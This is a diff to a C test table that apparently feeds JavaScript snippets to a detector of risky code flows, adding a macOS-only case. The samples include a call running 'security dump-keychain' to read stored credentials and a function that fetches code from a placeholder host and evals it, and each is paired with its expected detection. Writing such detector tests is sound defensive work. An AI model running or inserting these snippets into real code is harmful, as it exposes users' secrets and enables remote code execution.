@@ -132,6 +132,10 @@ static const Case flows[] = {
     { "only on Windows", "a.js",
       "if (process.platform === 'win32') require('child_process').exec('cmd /c echo 1')",
       "proc.exec|cmd /c echo 1|exec", NULL, NULL },
+    { "only on a Mac", "a.js",
+      "const p = require('os').platform(); switch (p) { case 'win32': break; case 'darwin': "
+      "require('child_process').exec('security dump-keychain') }",
+      "proc.exec|security dump-keychain|exec", NULL, NULL },
     { "an exported function", "a.js",
       "exports.go = async function (name) { const r = await fetch('https://example.invalid/' + "
       "name); eval(await r.text()) }",
